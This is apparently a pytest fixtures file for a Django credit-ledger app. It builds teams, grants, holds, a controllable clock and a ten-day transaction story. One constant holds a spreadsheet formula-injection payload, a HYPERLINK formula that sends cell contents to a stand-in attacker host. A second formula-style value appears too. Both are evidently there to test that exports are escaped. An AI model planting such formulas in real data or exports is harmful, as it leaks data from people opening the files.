import itertools
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta

import pytest
from django.db import connection
from django.utils import timezone

from keter.accounts.models import Team
from keter.accounts.plans import load_plans
from keter.accounts.roles import Role
from ledger.models import Transaction
from ledger.selectors import team_balance
from ledger.services import (
    ledger_adjust,
    ledger_capture,
    ledger_close_hold,
    ledger_expire_holds,
    ledger_expire_lots,
    ledger_grant,
    ledger_hold,
    ledger_hold_extend,
    ledger_refund,
    ledger_release,
    ledger_top_up,
    ledger_void_hold,
)

_keys = itertools.count(1)


def _new_key(prefix: str = "test") -> str:
    return f"{prefix}:{next(_keys)}"


@pytest.fixture
def new_key():
    """new_key(prefix) -> a key no other operation in the run has used."""
    return _new_key


@pytest.fixture(autouse=True)
def ledger_guards_hold_at_commit(request):
    """On PostgreSQL, make the deferred balance triggers judge what each rolled-back test wrote.

    A test in a rolled-back transaction never commits, so the deferred triggers would never run;
    SET CONSTRAINTS ALL IMMEDIATE fires them before the rollback.
    """
    runs_in_rollback = "db" in request.fixturenames and "transactional_db" not in request.fixturenames
    if runs_in_rollback:
        request.getfixturevalue("db")
    yield
    if runs_in_rollback and connection.vendor == "postgresql" and connection.in_atomic_block:
        with connection.cursor() as cursor:
            cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")


@pytest.fixture
def team(db) -> Team:
    plan = next(p for p in load_plans() if p.slug == "pro")
    return Team.objects.create(name="Ledger Test Films", slug="ledger-test", plan=plan)


@pytest.fixture
def grant(team):
    """grant(credits, **options) -> a new lot for `team` (a fresh key each time)."""

    def make(credits: int, *, to=None, **options):
        return ledger_grant(team=to or team, credits=credits, key=_new_key("grant"), **options)

    return make


@pytest.fixture
def hold(team):
    def make(credits: int, *, to=None, **options):
        options.setdefault("reference", "approval:test")
        return ledger_hold(team=to or team, credits=credits, key=_new_key("hold"), **options)

    return make


@pytest.fixture
def balance(request):
    """balance(of=the `team` fixture) -> (available, held) now."""

    def read(of=None):
        current = team_balance(of or request.getfixturevalue("team"))
        return current.available, current.held

    return read


@pytest.fixture
def later():
    """later(days) -> that many days from now."""
    return lambda n=1: timezone.now() + timedelta(days=n)


class Clock:
    """What `timezone.now()` returns: set it, move it on. The services stamp their rows with it."""

    def __init__(self, monkeypatch, start):
        self.now = start
        monkeypatch.setattr(timezone, "now", lambda: self.now)

    def set(self, moment):
        self.now = moment
        return moment

    def advance(self, **delta):
        self.now += timedelta(**delta)
        return self.now


@pytest.fixture
def clock(monkeypatch):
    return Clock(monkeypatch, timezone.now())


INJECTED_REFERENCE = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'
AWKWARD_MEMO = 'Goodwill "after" the C:\\outage\nsorry; ünïcode'
NEGATIVE_MEMO = "-200 credits: duplicated grant"


@dataclass
class Story:
    team: Team
    other: Team
    first_day: date  # ten days ago; the story ends yesterday, and the clock stands at today 08:00


@pytest.fixture
def ledger_story(demo, other_team, member, clock) -> Story:
    """Ten days of Northwind's ledger through the real services, one of every kind of transaction:
    a plan grant that expires, top-ups (one with a formula for a reference), holds captured in part,
    a release, a refund, adjustments both ways (awkward text), a change order, a hold closed after its
    lot expired, one timed out, one voided, and a quiet day; plus a grant to another team."""
    finance = member(Role.FINANCE).user
    tz = timezone.get_current_timezone()
    first = timezone.localdate() - timedelta(days=10)

    def at(day: int, hour: int = 10) -> datetime:
        return clock.set(datetime.combine(first + timedelta(days=day), time(hour), tzinfo=tz))

    at(0)
    expires = datetime.combine(first + timedelta(days=5), time(9), tzinfo=tz)
    ledger_grant(team=demo, credits=2_250, key="story:grant", reference="plan:pro:story", expires_at=expires)
    at(0, 11)
    ledger_top_up(team=demo, credits=5_000, key="story:top-up:1", reference=INJECTED_REFERENCE, actor=finance)
    at(1, 9)
    project_1 = ledger_hold(team=demo, credits=1_000, key="story:hold:1", reference="project:1")
    at(1, 10)
    first_take = ledger_capture(hold=project_1, credits=300, key="story:capture:1", reference="job:1")
    at(1, 11)
    ledger_release(hold=project_1, credits=100, key="story:release:2", reference="job:2")
    at(1, 12)
    ledger_grant(team=other_team, credits=625, key="story:other:grant", reference="plan:standard:story")
    at(2, 10)
    ledger_capture(hold=project_1, credits=200, key="story:capture:3", reference="job:3")
    at(2, 12)
    ledger_refund(hold=project_1, credits=50, key="story:refund:1", reference="job:1", corrects=first_take)
    at(2, 15)
    ledger_adjust(team=demo, credits=500, key="story:adjust:1", actor=finance, reason=AWKWARD_MEMO)
    at(2, 16)
    ledger_adjust(team=demo, credits=-200, key="story:adjust:2", actor=finance, reason=NEGATIVE_MEMO)
    at(3, 10)
    times_out = datetime.combine(first + timedelta(days=6), time(8), tzinfo=tz)
    project_2 = ledger_hold(
        team=demo, credits=400, key="story:hold:2", reference="project:2", expires_at=times_out
    )
    at(3, 11)
    ledger_hold_extend(hold=project_1, credits=150, key="story:extend:1")
    at(3, 12)
    ledger_capture(hold=project_2, credits=100, key="story:capture:4", reference="job:4")
    at(5, 10)
    assert ledger_expire_lots() == 1
    at(5, 11)
    ledger_close_hold(hold=project_1, key="story:close:1")
    at(6, 9)
    assert ledger_expire_holds() == 1
    at(7, 10)
    project_3 = ledger_hold(team=demo, credits=300, key="story:hold:3", reference="project:3")
    at(7, 12)
    ledger_void_hold(hold=project_3, key="story:void:3")
    at(9, 10)
    ledger_top_up(team=demo, credits=1_000, key="story:top-up:2", reference="@SUM(1+1)", actor=finance)
    at(10, 8)
    kinds = set(Transaction.objects.filter(team=demo).values_list("kind", flat=True))
    assert kinds == set(Transaction.Kind.values)  # the story really has every kind
    return Story(team=demo, other=other_team, first_day=first)
